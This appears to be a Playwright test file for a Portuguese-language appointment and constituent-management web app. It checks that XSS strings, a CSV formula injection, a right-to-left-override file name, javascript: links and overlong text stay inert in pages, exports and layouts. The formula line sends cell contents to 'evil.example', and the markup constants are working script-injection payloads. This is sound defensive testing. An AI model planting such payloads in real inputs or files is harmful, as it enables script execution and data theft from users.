import { demoLinks } from '@mocks/seed/accounts';
import papaparse from 'papaparse';
import type { Locator, Page } from '@playwright/test';
import { formatDate, today } from '@/formats/dates';
import { addAppointment } from './support/api';
import { resize } from './support/accessibility';
import { onCall, type Call } from './support/faults';
import { download, downloadText, expect, openSheet, test } from './support/fixtures';
import { modules, openFirst, openModule } from './support/modules';
import { desk, filterBy, openAppointments, panel, phone } from './support/steps';

/* What people type, or old records hold, is text everywhere: on the screen, on paper and in a spreadsheet. */

const markup = '<img src=x onerror="alert(1)"><script>alert(2)</script>';
const formula = '=HYPERLINK("http://evil.example?"&A1;"clique")';
/** Shown as written, the end would read backwards: "exe.gpj". */
const override = 'nota\u202Egpj.exe';
const emoji = '👩🏽‍⚖️🏳️‍🌈 Ñandú é ﷽';
const endless = `${markup} ${'x'.repeat(10_000)}`;

test.beforeEach(({ page }) => {
  page.on('dialog', (dialog) => {
    throw new Error(`A script ran: ${dialog.message()}`);
  });
});

/** Nothing of the text has become part of the page. */
async function expectOnlyText(page: Page) {
  await expect(
    page.locator('img, iframe, object, embed, script:not([src]), [onerror], [onload]'),
  ).toHaveCount(0);
  await expect(page.locator('[href^="javascript:" i]')).toHaveCount(0);
}

test('an appointment with hostile content in every field', async ({ page, signIn }, testInfo) => {
  await signIn(page);
  const subject = '=1+1<b onclick=alert(1)>"\'; --';
  const description = `${formula}\n${markup}\n${override}\n${emoji}`.padEnd(800, 'ç');
  const fields = { subject, location: markup, requesterName: '@SUM(A1:A9)', description };
  const reference = await addAppointment(page, { date: today(), ...fields });
  const table = await openAppointments(page);
  await filterBy(page, 'Filtrar compromissos', { Assunto: subject, Referência: reference });
  await expect(table.getByRole('cell', { name: subject, exact: true })).toBeVisible();
  await expect(page.getByRole('button', { name: `Remover filtro Assunto: ${subject}` })).toBeVisible();
  await expectOnlyText(page);

  const csv = await download(page, page.getByRole('button', { name: 'Download Excel (.csv)' }));
  const { data } = papaparse.parse((await downloadText(csv)).slice(1), { delimiter: ';', newline: '\r\n' });
  const day = formatDate(today());
  expect(data.slice(1)).toEqual([
    // Both what begins the cell and what would begin one where ';' parts cells.
    [
      reference,
      `'${subject.replace('; --', "; '--")}`,
      `${day} 09:00`,
      `${day} 10:30`,
      `'${description}`,
      markup,
    ],
  ]);
  const print = await download(page, page.getByRole('button', { name: 'Baixar para imprimir (.html)' }));
  const sheet = await openSheet(page, print, testInfo);
  await expect(sheet.getByRole('cell').last()).toHaveText(subject);
  await expectOnlyText(sheet);
  await sheet.close();

  await table.getByRole('button', { name: reference, exact: true }).click();
  const details = panel(page, `Compromisso ${reference}`);
  for (const text of [markup, '@SUM(A1:A9)', description]) {
    await expect(details.getByText(text, { exact: true })).toBeVisible();
  }
  await expectOnlyText(page);
  const link = await details.getByRole('link', { name: /\/appointment\// }).getAttribute('href');
  await page.goto(link ?? '');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(subject);
  await expect(page).toHaveTitle(new RegExp('^=1\\+1<b onclick'));
  await expect(page.getByText(description)).toBeVisible();
  await expectOnlyText(page);
  const map = new URL((await page.getByRole('link', { name: /^Ver no mapa/ }).getAttribute('href')) ?? '');
  expect(map.origin).toBe('https://www.google.com');
  expect(map.searchParams.get('query')).toBe(markup);
});

test('an address with hostile content leads to what says that it is not there', async ({
  page,
  problems,
}) => {
  problems.expect(/status of 404/);
  for (const [path, told] of [
    ['/appointment/%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'Compromisso não encontrado'],
    [`/appointment/${'a'.repeat(2000)}`, 'Compromisso não encontrado'],
    ['/invoice/open/%3Cimg%20src=x%20onerror=alert(1)%3E', 'Fatura não encontrada'],
    ['/auth/reset-password/%3Cscript%3E', 'Ops! Token expirou ou não existe'],
  ] as const) {
    await page.goto(path);
    await expect(page.getByRole('alert')).toContainText(told);
    await expectOnlyText(page);
  }
});

const all = (fields: string) => Object.fromEntries(fields.split(' ').map((field) => [field, endless]));
const digits = '9'.repeat(500);

/** The texts of a module's answers, each longer than any form lets through. */
const overlong: Record<string, object> = {
  '/appointments/list': {
    ...all('subject location description'),
    requester: { name: endless, telephone: digits },
  },
  '/legislative-processes/list': {
    ...all('menu typeName statusName areaInterestName region'),
    authors: [endless],
    archives: [{ name: endless, url: 'javascript:alert(1)', description: endless }],
    comments: [{ date: '2026-11-20', note: endless }],
  },
  '/campaigns/list': {
    ...all('name typeName statusName'),
    contentMessage: ['subject', 'greeting', 'content', 'signature'].map((name) => ({ name, value: endless })),
  },
  '/expenses/list': all('reference categoryName statusName name nationalRegister description'),
  '/polls/list': { ...all('question thanksText statusName identifier'), options: [{ op: endless }] },
  '/phonecalls/list': { ...all('name createdBy subject statusName'), telephone: digits },
  '/services/list': all('description statusName electorName categoryName originName officeName'),
  '/manifestations/list': {
    ...all('name typeName statusName description'),
    contacts: { email: endless, telephone: digits },
    location: { city: endless, district: endless },
    comments: [{ description: endless, createdAt: '2026-11-20 09:00:00' }],
  },
  '/tasks/list': { ...all('description'), participants: [{ userId: 1, name: endless, phone: digits }] },
  '/voters/list': all('name email mail formattedAddress districtAndCity professionName note'),
};

const longer = (page: Page, call: Call, fields: object = {}) =>
  onCall(page, call, async (route) => {
    const response = await route.fetch();
    const reply = (await response.json()) as { data?: object[] };
    const json = reply.data
      ? { ...reply, data: reply.data.map((row) => ({ ...row, ...fields })) }
      : { ...reply, ...fields };
    await route.fulfill({ json });
  });

/** At a desk, then on a phone. */
async function expectNoOverflow(page: Page, part: Locator) {
  for (const size of [desk, phone.viewport]) {
    await resize(page, size);
    for (const box of [page.locator('html'), part]) {
      expect(await box.evaluate((element) => element.scrollWidth - element.clientWidth)).toBe(0);
    }
  }
  await resize(page, desk);
  await expectOnlyText(page);
}

test('records longer than any form lets through break no screen', async ({ page, signIn }) => {
  await signIn(page);
  for (const module of modules) {
    const fields = overlong[module.path];
    expect(fields, `texts for ${module.path}`).toBeDefined();
    await longer(page, module.search, fields);
    await longer(page, module.read, fields);
    const table = await openModule(page, module);
    await expectNoOverflow(page, page.getByRole('main'));
    await openFirst(table);
    const details = page.getByRole('dialog');
    await expect(details.getByText(endless).first()).toBeVisible();
    await expectNoOverflow(page, details);
    await page.keyboard.press('Escape');
  }
  const invitation = { script: 'compromisso.public.php', action: 'getDetails' };
  await longer(page, invitation, overlong['/appointments/list']);
  await page.goto(`/appointment/${demoLinks.activeAppointment}`);
  await expect(page.getByRole('heading', { level: 1 })).toContainText(markup);
  await expectNoOverflow(page, page.getByRole('main'));
});
